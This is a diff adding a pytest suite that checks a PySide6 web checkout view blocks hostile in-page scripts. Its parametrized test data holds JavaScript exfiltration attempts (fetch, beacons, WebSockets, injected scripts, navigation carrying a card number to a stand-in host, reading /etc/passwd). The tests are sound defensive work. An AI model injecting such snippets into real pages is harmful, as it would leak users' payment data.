@@ -1,0 +1,241 @@
+"""What a hostile script in the page can't do."""
+
+import logging
+import os
+import signal
+from collections.abc import Callable
+
+import pytest
+from PySide6.QtCore import QObject, QUrl, Slot
+from PySide6.QtGui import QDesktopServices
+from PySide6.QtWebEngineWidgets import QWebEngineView
+from pytestqt.qtbot import QtBot
+
+from tests.ui.webview.conftest import DoubleServer, Till
+from ui.webview.checkout_view import CheckoutView
+from ui.webview.model import PageConfig
+
+MakeTill = Callable[..., Till]
+
+
+class UrlCatcher(QObject):
+    """Stands where the system would start another program."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.seen: list[str] = []
+
+    @Slot(QUrl)
+    def caught(self, url: QUrl) -> None:
+        self.seen.append(url.toString())
+
+
+@pytest.fixture
+def catch_urls() -> UrlCatcher:
+    return UrlCatcher()
+
+
+def attempt(page: Till, script: str) -> None:
+    """Run a hostile script, then wait until the page has had time to act on it."""
+    page.js(f"[(() => {{ {script} }})()]")
+    page.js("[setTimeout(() => { window.later = 1 }, 150)]")
+    page.wait_js("window.later === 1")
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "fetch('URL/fetch?secret=1').catch(() => 0)",
+        "fetch('URL/post', {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => 0)",
+        "new Image().src = 'URL/image'",
+        "navigator.sendBeacon('URL/beacon', 'x')",
+        "new EventSource('URL/events')",
+        "const x = new XMLHttpRequest(); x.open('GET', 'URL/xhr'); x.send()",
+        "document.head.append(Object.assign(document.createElement('script'), {src: 'URL/js'}))",
+        "document.head.append(Object.assign(document.createElement('link'),"
+        " {rel: 'stylesheet', href: 'URL/css'}))",
+        "document.head.append(Object.assign(document.createElement('link'),"
+        " {rel: 'prefetch', href: 'URL/prefetch'}))",
+        "document.body.style.backgroundImage = 'url(URL/background)'",
+        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'URL/frame'}))",
+        "document.body.append(Object.assign(document.createElement('iframe'),"
+        " {srcdoc: '<img src=URL/inner>'}))",
+        "document.body.append(Object.assign(document.createElement('embed'), {src: 'URL/embed'}))",
+        "document.body.append(Object.assign(document.createElement('video'), {src: 'URL/video'}))",
+        "const f = document.createElement('form'); f.method = 'post'; f.action = 'URL/form';"
+        " document.body.append(f); f.submit()",
+        "location.href = 'URL/main'",
+        "const a = document.createElement('a'); a.href = 'URL/file'; a.download = 'x';"
+        " document.body.append(a); a.click()",
+        "const a = document.createElement('a'); a.href = 'URL/ping'; a.ping = 'URL/ping2';"
+        " document.body.append(a); a.click()",
+        "window.open('URL/window')",
+        "new Worker('URL/worker')",
+        "try { new WebSocket('URL/socket'.replace('http', 'ws')) } catch { }",
+        "history.pushState(0, '', '/x'); location.href = 'URL/pushed'",
+    ],
+)
+def test_nothing_reaches_another_host(till: MakeTill, elsewhere: DoubleServer, script: str) -> None:
+    page = till()
+    attempt(page, f"try {{ {script.replace('URL', elsewhere.url)} }} catch {{ }}")
+    assert elsewhere.asked == []
+    assert page.js("document.getElementById('pay') !== null") is True
+
+
+@pytest.mark.parametrize(
+    ("script", "kind"),
+    [
+        ("location.href = 'https://elsewhere.invalid/a?pan=4242'", "navigation"),
+        ("location.href = 'file:///etc/passwd'", "navigation"),
+        ("location.href = 'https://till.invalid/till/complete'", "navigation"),
+        ("location.href = 'https://till.invalid/till/shutdown?t=x'", "navigation"),
+        ("document.body.append(Object.assign(document.createElement('iframe'),"
+         " {src: 'https://till.invalid/till/complete'}))", "frame"),
+    ],
+)  # fmt: skip
+def test_refusals_are_counted_and_logged_without_what_they_carried(
+    till: MakeTill, script: str, kind: str, caplog: pytest.LogCaptureFixture, qtbot: QtBot
+) -> None:
+    page = till()
+    heard: list[str] = []
+    page.view.finished.connect(heard.append)
+    with caplog.at_level(logging.INFO):
+        page.js(f"[(() => {{ {script} }})()]")
+        if kind == "navigation":
+            qtbot.waitUntil(lambda: page.view.blocked.get(kind, 0) == 1)
+    attempt(page, "")
+    assert heard == []
+    assert "4242" not in caplog.text
+    assert "passwd" not in caplog.text
+
+
+def test_an_event_with_an_unknown_name_is_refused_even_with_the_pages_token(
+    till: MakeTill, qtbot: QtBot
+) -> None:
+    page = till()
+    heard: list[str] = []
+    page.view.finished.connect(heard.append)
+    page.view.failed.connect(heard.append)
+    token = page.js("JSON.parse(document.getElementById('config').text).token")
+    for count, url in enumerate(
+        (
+            f"/till/paid?t={token}",
+            f"/till/complete?t={token}&amount=0",
+            f"/till/complete?t={token}&t=x",
+            f"/till/failed?t={token}&reason=renderer",
+            f"/till/failed?t={token}",
+            f"/till/complete/?t={token}",
+            f"/till/../till/paid?t={token}",
+        ),
+        start=1,
+    ):
+        page.js(f"[location.href = 'https://till.invalid{url}']")
+        qtbot.waitUntil(lambda count=count: page.view.blocked.get("navigation", 0) == count)
+    assert heard == []
+
+
+def test_the_gate_stands_behind_the_pages_own_rules(
+    qtbot: QtBot, config: Callable[..., PageConfig], elsewhere: DoubleServer
+) -> None:
+    """With the content security policy gone, the interceptor alone still lets nothing out."""
+    view = CheckoutView()
+    with qtbot.waitSignal(view.ready, timeout=20_000):
+        view.preload(config())
+    page = view.findChild(QWebEngineView).page()
+    # The same page, its gate kept, without a policy in its markup.
+    page._source = type(page._source)(
+        html="<body>bare", url=page._source.url, token=page._source.token
+    )
+    with qtbot.waitSignal(page.loadFinished, timeout=10_000):
+        page.load_own()
+    till = Till(qtbot, view)
+    before = dict(view.blocked)
+    script = """
+        fetch('URL/fetch?pan=4242').catch(() => 0);
+        new Image().src = 'URL/image';
+        try { new WebSocket('URL/socket'.replace('http', 'ws')) } catch { }
+        navigator.sendBeacon('URL/beacon', 'x');
+        document.head.append(Object.assign(document.createElement('script'), {src: 'URL/js'}));
+        document.body.append(Object.assign(document.createElement('iframe'), {src: 'URL/f'}));
+    """
+    attempt(till, script.replace("URL", elsewhere.url))
+    assert elsewhere.asked == []
+    new = {kind: view.blocked[kind] - before.get(kind, 0) for kind in view.blocked}
+    assert {"xhr", "image", "ping", "script", "frame"} <= {kind for kind, n in new.items() if n}
+    view.shutdown()
+    view.deleteLater()
+
+
+@pytest.mark.parametrize(
+    "script",
+    ["alert('x')", "confirm('x')", "prompt('x')", "print()",
+     "document.documentElement.requestFullscreen().catch(() => 0)",
+     "navigator.geolocation.getCurrentPosition(() => 0)",
+     "navigator.mediaDevices.getUserMedia({video: true}).catch(() => 0)",
+     "Notification.requestPermission()",
+     "const i = document.createElement('input'); i.type = 'file'; document.body.append(i);"
+     " i.click()"],
+)  # fmt: skip
+def test_no_dialog_and_no_permission(till: MakeTill, script: str) -> None:
+    page = till()
+    attempt(page, f"try {{ {script} }} catch {{ }}")
+    assert page.js("document.fullscreenElement === null") is True
+    assert page.view.isVisible()
+
+
+def test_no_socket_beside_the_gate(till: MakeTill) -> None:
+    page = till()
+    assert page.js("typeof RTCPeerConnection") == "undefined"
+
+
+def test_what_the_page_logs_is_not_written_down(
+    till: MakeTill, caplog: pytest.LogCaptureFixture
+) -> None:
+    with caplog.at_level(logging.DEBUG):
+        page = till()
+        page.js("[console.error('cs_test_double_secret_x', '4242424242424242')]")
+        attempt(page, "")
+    assert "page_console" in caplog.text
+    assert "secret" not in caplog.text
+    assert "4242" not in caplog.text
+
+
+def test_nothing_is_kept_on_disk(till: MakeTill) -> None:
+    page = till()
+    profile = page.view.findChild(QWebEngineView).page().profile()
+    assert profile.isOffTheRecord()
+    assert not profile.isSpellCheckEnabled()
+
+
+def test_each_checkout_starts_without_a_memory(till: MakeTill) -> None:
+    page = till()
+    page.js("[localStorage.setItem('who', 'zoe'), document.cookie = 'who=zoe']")
+    other = till()
+    assert other.js("[localStorage.getItem('who'), document.cookie]") == [None, ""]
+
+
+@pytest.mark.skipif(not hasattr(signal, "SIGKILL"), reason="Windows ends processes otherwise")
+def test_a_killed_renderer_is_told(till: MakeTill, qtbot: QtBot) -> None:
+    page = till()
+    pid = page.view.findChild(QWebEngineView).page().renderProcessPid()
+    with qtbot.waitSignal(page.view.failed, timeout=10_000) as seen:
+        os.kill(pid, signal.SIGKILL)
+    assert seen.args == ["renderer"]
+    assert page.view.is_over
+
+
+@pytest.mark.parametrize("scheme", ["mailto", "tel", "ftp", "x-other-app"])
+def test_no_other_program_is_started(till: MakeTill, scheme: str, catch_urls: UrlCatcher) -> None:
+    page = till()
+    QDesktopServices.setUrlHandler(scheme, catch_urls, "caught")
+    try:
+        attempt(
+            page,
+            f"const a = document.createElement('a'); a.href = '{scheme}:a'; a.id = 'link';"
+            " a.textContent = 'xxxxxxxxxxxx'; document.body.prepend(a)",
+        )
+        page.click("#link")
+        attempt(page, "")
+    finally:
+        QDesktopServices.unsetUrlHandler(scheme)
+    assert catch_urls.seen == []
